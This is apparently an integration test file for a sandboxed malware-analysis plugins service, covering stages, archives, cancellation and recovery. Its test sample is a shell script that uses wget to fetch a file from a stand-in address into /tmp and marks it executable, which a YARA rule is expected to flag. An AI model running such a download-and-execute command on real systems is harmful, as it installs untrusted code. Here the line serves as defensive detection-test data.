"""The plugins service for real: RabbitMQ, PostgreSQL, the object store, HTTP, and host plugins in the sandbox."""

import asyncio
import io
import shutil
import zipfile
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Any

import pytest
import pyzipper

from contracts.ids import derived
from contracts.plugins import (
    ChildrenFound,
    PluginFinished,
    PluginRegistered,
    PluginRejected,
    PluginRemoved,
    PluginResultProduced,
    PluginStageCompleted,
    PluginStageFailed,
    PluginStageSkipped,
    PluginStageStarted,
    PluginStarted,
)
from services.chassis.errors import TransientError
from services.plugins import rows
from services.plugins.adapters.sandbox import BubblewrapSandbox
from services.plugins.ports import SandboxReport, SandboxRequest
from services.plugins.record import StageRecord
from tests.integration.plugins_bench import Bench, connected, open_folder, process, service, settings, until_ready
from tests.security.sandbox_bench import processes_with
from tests.unit.plugins.test_manifest import GOOD
from tests.unit.plugins.test_yara_rules import EICAR

pytestmark = pytest.mark.integration
SCRIPT = b"#!/bin/sh\nwget http://192.0.2.1/x -O /tmp/x\nchmod +x /tmp/x\n"
SLEEPER = """
import time
def run(context):
    time.sleep(600)
"""
READER = """
def run(context):
    context.emit_json("count", [[one.plugin, one.name] for one in context.inputs])
"""


def add_plugin(directory: Path, name: str, code: str, *, stages: str = '["static"]', more: str = "") -> None:
    """An operator's plugin."""
    folder = directory / name
    folder.mkdir(parents=True)
    text = GOOD.replace('name = "counter"', f'name = "{name}"').replace('["static"]', stages)
    (folder / "plugin.toml").write_text(text + more, encoding="utf-8")
    (folder / "plugin.py").write_text(code, encoding="utf-8")


@pytest.fixture
async def bench(amqp_url: str, database_url: str) -> AsyncIterator[Bench]:
    """A running service with three plugins of an operator's, one of them broken."""
    with open_folder() as folder:
        add_plugin(folder / "plugins", "sleeper", SLEEPER)
        add_plugin(folder / "plugins", "reader", READER, stages='["static", "post"]')
        add_plugin(folder / "plugins", "broken", "")
        (folder / "plugins/broken/plugin.toml").write_text("[plugin]\ncolour = 1\n", encoding="utf-8")
        own = settings(amqp_url, database_url, folder, plugin_dirs=[folder / "plugins"])
        async with service(own), connected(own) as bench:
            yield bench


def zipped(*names: str, password: bytes = b"") -> bytes:
    """An archive of scripts of those names."""
    buffer = io.BytesIO()
    encryption = {"encryption": pyzipper.WZ_AES} if password else {}
    with pyzipper.AESZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED, **encryption) as archive:
        if password:
            archive.setpassword(password)
        for name in names:
            archive.writestr(name, SCRIPT)
    return buffer.getvalue()


@pytest.mark.promise("D1")
async def test_a_static_stage_runs_every_plugin_and_says_what_it_did(bench: Bench) -> None:
    """Facts in their order, results in the store before the fact that names them, nothing failed."""
    await bench.order(SCRIPT, "identity", "yara", name="a.sh")
    [completed] = await bench.hear(PluginStageCompleted)
    produced = bench.said(PluginResultProduced)
    assert bench.outcomes() == {"identity": "completed", "yara": "completed"}
    assert completed.result_ids == tuple(fact.result_id for fact in produced)
    assert [fact.title for fact in produced] == ["Identity", "YARA matches"]
    assert (completed.errors, completed.ended_by) == ((), None)
    assert (await bench.json_of("identity", "identity"))["package"] == "shell"
    assert [match["rule"] for match in (await bench.json_of("yara", "yara"))["matches"]] == ["downloads_and_runs"]
    kinds = [type(fact) for fact in bench.heard if not isinstance(fact, PluginRegistered | PluginRejected)]
    one_run = [PluginStarted, PluginResultProduced, PluginFinished]
    assert kinds == [PluginStageStarted, *one_run, *one_run, PluginStageCompleted]


@pytest.mark.promise("P15")
async def test_an_order_that_is_repeated_changes_nothing(bench: Bench) -> None:
    """The second order, under another message id, is not run."""
    command = await bench.order(EICAR, "yara")
    await bench.hear(PluginStageCompleted)
    before = len(bench.heard)
    await bench.tell(command)
    await bench.order(EICAR, "identity", task_id="tsk_" + "0" * 32)
    await bench.hear(PluginStageCompleted, 2)
    assert {fact.task_id for fact in bench.heard[before:] if isinstance(fact, PluginStageCompleted)} == {
        "tsk_" + "0" * 32
    }


async def test_stages_that_begin_together_look_at_the_sample_once(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What it is is found in one run, beside those of the plugins."""
    started: list[str] = []
    run = BubblewrapSandbox.run

    async def counted(sandbox: BubblewrapSandbox, request: SandboxRequest) -> SandboxReport:
        started.append(request.manifest.plugin.name)
        return await run(sandbox, request)

    monkeypatch.setattr(BubblewrapSandbox, "run", counted)
    await asyncio.gather(bench.order(SCRIPT, "yara"), bench.order(SCRIPT, "reader", stage="post"))
    await bench.hear(PluginStageCompleted, 2)
    assert sorted(started) == ["identity", "reader", "yara"]


@pytest.mark.promise("P36")
async def test_a_later_group_and_a_later_stage_see_earlier_results(bench: Bench) -> None:
    """In the same stage what earlier groups produced; in a post stage what all stages did."""
    await bench.order(SCRIPT, "identity", "reader")
    await bench.hear(PluginStageCompleted)
    assert await bench.json_of("reader", "count") == [["identity", "identity"]]
    bench.heard.clear()
    await bench.order(SCRIPT, "reader", stage="post")
    await bench.hear(PluginStageCompleted)
    assert await bench.json_of("reader", "count") == [["identity", "identity"], ["reader", "count"]]


@pytest.mark.promise("P36")
async def test_results_that_later_plugins_are_not_given_are_counted(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Beyond the bound they are left out, which is an error of the stage; within it, the control, it has none."""
    monkeypatch.setattr(rows, "INPUTS_MAX", 2)
    await bench.order(SCRIPT, "identity", "yara", "reader")
    [within] = await bench.hear(PluginStageCompleted)
    assert within.errors == ()
    monkeypatch.setattr(rows, "INPUTS_MAX", 1)
    await bench.order(SCRIPT, "identity", "yara", "reader", task_id="tsk_" + "3" * 32)
    [_, beyond] = await bench.hear(PluginStageCompleted, 2)
    assert [(error.plugin, error.reason) for error in beyond.errors] == [
        (None, "1 results were not given to plugins that follow: there were more than 1")
    ]


@pytest.mark.promise("P36")
async def test_a_stage_that_is_run_again_counts_nothing_that_its_plugins_produced_before_as_not_given(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """It was interrupted when all its plugins had ended: their own results were never for them."""
    monkeypatch.setattr(rows, "INPUTS_MAX", 2)
    complete = StageRecord.stage_completed
    interrupted: list[Any] = []

    async def once_interrupted(record: StageRecord, *words: Any, **more: Any) -> None:
        if not interrupted:
            interrupted.append(record.key)
            raise TransientError("the store was away")
        await complete(record, *words, **more)

    monkeypatch.setattr(StageRecord, "stage_completed", once_interrupted)
    await bench.order(SCRIPT, "identity", "yara", "reader")
    [completed] = await bench.hear(PluginStageCompleted)
    assert len(interrupted) == 1
    assert len(completed.result_ids) > rows.INPUTS_MAX
    assert completed.errors == ()


async def test_what_does_not_apply_is_skipped_and_an_error_only_when_asked_for(bench: Bench) -> None:
    """`auto` decides from content; whoever named the plugin learns that it had nothing to do."""
    await bench.order(SCRIPT, "elf")
    [completed] = await bench.hear(PluginStageCompleted)
    [finished] = bench.said(PluginFinished)
    assert (finished.outcome, finished.reason) == ("skipped", "it is for elf, archive; this is shell")
    assert completed.errors == ()
    request = {"plugins": [{"name": "elf"}]}
    await bench.order(SCRIPT, "elf", task_id="tsk_" + "1" * 32, request=request)
    [_, asked] = await bench.hear(PluginStageCompleted, 2)
    assert [(error.plugin, error.outcome) for error in asked.errors] == [("elf", "skipped")]


@pytest.mark.promise("D1")
async def test_a_plugin_that_is_not_there_is_an_error(bench: Bench) -> None:
    """Not run is never an empty success."""
    await bench.order(SCRIPT, "identity", "absent")
    [completed] = await bench.hear(PluginStageCompleted)
    assert [(error.plugin, error.outcome) for error in completed.errors] == [("absent", "skipped")]
    assert len(completed.result_ids) == 1


@pytest.mark.promise("A2")
async def test_the_chosen_entry_of_an_archive_is_analysed(bench: Bench) -> None:
    """Password and entry have their effect; the archive's listing is a result as well."""
    request = {"password": "pw", "archive_entry": "b.sh"}
    await bench.order(zipped("a.sh", "b.sh", password=b"pw"), "identity", "reader", name="x.zip", request=request)
    [completed] = await bench.hear(PluginStageCompleted)
    assert (await bench.json_of("unpack", "archive"))["chosen"] == "b.sh"
    assert {fact.title for fact in bench.said(PluginResultProduced)} == {"Archive", "Identity", "Count"}
    assert (await bench.json_of("identity", "identity"))["mime"] == "text/x-shellscript"
    assert ["unpack", "container"] in await bench.json_of("reader", "count")
    assert len(completed.result_ids) == 3


@pytest.mark.promise("D1")
async def test_an_archive_of_several_files_is_analysed_as_itself_and_no_guest_is_wanted(bench: Bench) -> None:
    """Its listing and what the plugins find are results; the guest stage is skipped before anybody leases a machine."""
    await bench.order(zipped("a.sh", "b.sh"), "identity", name="x.zip")
    [completed] = await bench.hear(PluginStageCompleted)
    [skipped] = bench.said(PluginStageSkipped)
    assert (skipped.stage, "archive_entry" in skipped.reason) == ("guest", True)
    assert (await bench.json_of("unpack", "archive"))["chosen"] == ""
    assert (await bench.json_of("identity", "identity"))["package"] == "archive"
    assert completed.errors == ()


async def test_an_archive_that_no_customary_password_opens_is_analysed_as_itself(bench: Bench) -> None:
    """The plugins see the container; the guest stage is skipped, with the reason and what would change it."""
    await bench.order(zipped("a.sh", password=b"nobody knows"), "identity", name="x.zip")
    [completed] = await bench.hear(PluginStageCompleted)
    [skipped] = bench.said(PluginStageSkipped)
    assert (skipped.stage, skipped.reason) == (
        "guest",
        "no customary password opens the archive's file, and none was given; password says which does",
    )
    assert (await bench.json_of("unpack", "archive"))["is_locked"] is True
    assert (await bench.json_of("identity", "identity"))["package"] == "archive"
    assert completed.errors == ()


@pytest.mark.promise("P33")
async def test_what_is_found_inside_is_said_once_with_its_name_and_kind(
    bench: Bench, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Two scripts, a nested archive and a duplicate: each content once, named as in its container, in one fact.

    Results into which nobody looks are counted.
    """
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as archive:
        archive.writestr("deep/inner.py", "import os\n")
    outer = io.BytesIO()
    with zipfile.ZipFile(outer, "w") as archive:
        archive.writestr("a.sh", SCRIPT)
        archive.writestr("bin/b.sh", b"#!/bin/sh\ntrue\n")
        archive.writestr("inner.zip", inner.getvalue())
        archive.writestr("again.sh", SCRIPT)
    submission = {"submission_id": derived("sub", bench.task_id)}
    await bench.order(outer.getvalue(), "archives", name="x.zip", **submission)
    await bench.hear(PluginStageCompleted)
    [found] = bench.said(ChildrenFound)
    assert sorted((child.name, child.package, child.mime) for child in found.children) == [
        ("a.sh", "shell", "text/x-shellscript"),
        ("bin/b.sh", "shell", "text/x-shellscript"),
        ("deep/inner.py", "python", "text/x-python"),
    ]
    contents = {child.name: await bench.read(child.blob) for child in found.children}
    assert [contents[name] for name in sorted(contents)] == [SCRIPT, b"#!/bin/sh\ntrue\n", b"import os\n"]
    produced = {fact.result_id for fact in bench.said(PluginResultProduced)}
    assert {child.result_id for child in found.children} <= produced
    unwanted = {"request": {"children": {"depth": 0}}, "task_id": derived("tsk", bench.task_id)}
    await bench.order(outer.getvalue(), "archives", name="x.zip", **submission, **unwanted)
    await bench.hear(PluginStageCompleted, 2)
    assert len(bench.said(ChildrenFound)) == 1
    monkeypatch.setattr(rows, "PRODUCED_MAX", 1)
    await bench.order(outer.getvalue(), "archives", name="x.zip", task_id="tsk_" + "5" * 32, **submission)
    [within, _, beyond] = await bench.hear(PluginStageCompleted, 3)
    assert within.errors == ()
    [error] = beyond.errors
    unseen = len(beyond.result_ids) - 1
    words = f"{unseen} results were not looked through for files inside: there were more than 1"
    assert (error.plugin, error.reason) == (None, words)


@pytest.mark.parametrize(
    ("sample", "request_", "reason"),
    [
        (zipped("a", password=b"pw"), {"password": "no"}, "wrong archive password"),
        (zipped("a", "b"), {"archive_entry": "c"}, "the archive has no entry c; it has: a, b"),
        (SCRIPT, {"archive_entry": "c"}, "archive_entry is for archives; this sample is not one"),
        (SCRIPT, {"password": "c"}, "password is for archives and documents; this sample is a program (shell)"),
        (b"no archive at all", {"package": "archive"}, "the archive cannot be read: File is not a zip file"),
    ],
)
async def test_an_archive_that_cannot_be_opened_fails_the_stage_in_words(
    sample: bytes, request_: dict[str, str], reason: str, bench: Bench
) -> None:
    """Trying again would change nothing; the submitter reads what would."""
    await bench.order(sample, "identity", request=request_)
    [failed] = await bench.hear(PluginStageFailed)
    assert (failed.reason, failed.is_retryable, failed.result_ids) == (reason, False, ())


@pytest.mark.promise("P34")
async def test_a_cancelled_stage_ends_at_once_and_names_what_did_not_run(bench: Bench) -> None:
    """What came before is sealed; the running plugin is ended, long before its own end."""
    await bench.order(SCRIPT, "identity", "sleeper", "yara")
    await bench.hear(PluginStarted, 2)
    await bench.cancel("static")
    [completed] = await bench.hear(PluginStageCompleted)
    assert completed.ended_by == "cancelled"
    assert len(completed.result_ids) == 1
    assert [(error.plugin, error.outcome) for error in completed.errors] == [
        ("sleeper", "skipped"),
        ("yara", "skipped"),
    ]


async def test_a_cancellation_that_overtakes_the_order_holds(bench: Bench) -> None:
    """No plugin runs."""
    await bench.cancel("static")
    await bench.order(SCRIPT, "sleeper")
    [completed] = await bench.hear(PluginStageCompleted)
    assert completed.ended_by == "cancelled"
    assert [error.plugin for error in completed.errors] == ["sleeper"]


async def test_a_missing_sample_is_said_not_awaited(bench: Bench) -> None:
    """The object store has no such bytes: the stage fails with that reason."""
    command = await bench.order(b"x", "identity", stage="static", task_id="tsk_" + "2" * 32)
    await bench.hear(PluginStageCompleted)
    lost = command.model_dump(mode="json")
    lost["sample"]["blob"]["sha256"] = "0" * 64
    lost["task_id"] = bench.task_id
    await bench.tell(type(command).model_validate(lost))
    [failed] = await bench.hear(PluginStageFailed)
    assert "not in the object store" in failed.reason


@pytest.mark.promise("P3", "P15", "P34")
async def test_a_service_that_is_killed_in_the_middle_finishes_after_its_return(
    amqp_url: str, database_url: str
) -> None:
    """Killed while a plugin runs: the plugin dies with it, the next process ends the stage, nothing is said twice."""
    with open_folder() as folder:
        marker = f"sleeper{folder.name[-8:]}"
        add_plugin(
            folder / "plugins",
            "sleeper",
            f'import os\n\ndef run(context):\n    os.execv("/usr/bin/sleep", ["{marker}", "600"])\n',
        )
        own = settings(amqp_url, database_url, folder, plugin_dirs=[folder / "plugins"])
        async with process(own) as first, connected(own) as bench:
            await bench.order(SCRIPT, "identity", "sleeper", "yara")
            await bench.hear(PluginStarted, 2)
            await until(lambda: bool(processes_with(marker)))
            first.kill()
            await asyncio.wait_for(first.wait(), 10)
            await until(lambda: not processes_with(marker))
            async with process(own):
                await until_ready(bench)
                await until(lambda: bool(processes_with(marker)))
                await bench.cancel("static")
                [completed] = await bench.hear(PluginStageCompleted)
                await until(lambda: not processes_with(marker))
        assert len(completed.result_ids) == 1
        assert [error.plugin for error in completed.errors] == ["sleeper", "yara"]
        assert len(bench.said(PluginResultProduced)) == len(bench.said(PluginStageStarted)) == 1


async def until(holds: Callable[[], bool]) -> None:
    """It holds. Raises TimeoutError after a minute."""
    async with asyncio.timeout(60):
        while not holds():  # noqa: ASYNC110 - another process changes it
            await asyncio.sleep(0.05)


async def test_the_catalogue_is_said_at_start_and_shown_over_http(bench: Bench) -> None:
    """Registered plugins, and the broken folder with the reason why it is none."""
    listed = (await bench.get("/plugins")).json()
    names = {item["name"] for item in listed["items"]}
    assert {"identity", "yara", "elf", "syscalls", "sleeper", "reader"} <= names
    assert [entry["name"] for entry in listed["rejected"]] == ["broken"]
    assert "plugin.colour: unknown key" in (await bench.get("/plugins/broken")).json()["reason"]
    shown = (await bench.get("/plugins/yara")).json()
    assert shown["runtime"]["memory_mib"] == 768
    missing = await bench.get("/plugins/absent")
    assert (missing.status_code, missing.json()["code"]) == (404, "unknown_plugin")
    assert (await bench.http.get("/api/v1/plugins", timeout=5)).status_code == 401
    registered = await bench.hear(PluginRegistered, len(names))
    assert {fact.manifest.name for fact in registered} == names
    assert [fact.folder for fact in await bench.hear(PluginRejected)] == ["broken"]


@pytest.mark.promise("D6")
async def test_a_plugin_that_is_gone_at_the_next_start_is_taken_back(amqp_url: str, database_url: str) -> None:
    """What was registered and is there no more may no longer be planned; what stayed is not taken back."""
    with open_folder() as folder:
        add_plugin(folder / "plugins", "passing", "def run(context):\n    context.emit_json('done', {})\n")
        own = settings(amqp_url, database_url, folder, plugin_dirs=[folder / "plugins"])
        async with service(own), connected(own) as bench:
            await until(lambda: any(fact.manifest.name == "passing" for fact in bench.said(PluginRegistered)))
        shutil.rmtree(folder / "plugins" / "passing")
        async with service(own), connected(own) as bench:
            removed = await bench.hear(PluginRemoved)
            assert [fact.name for fact in removed] == ["passing"]
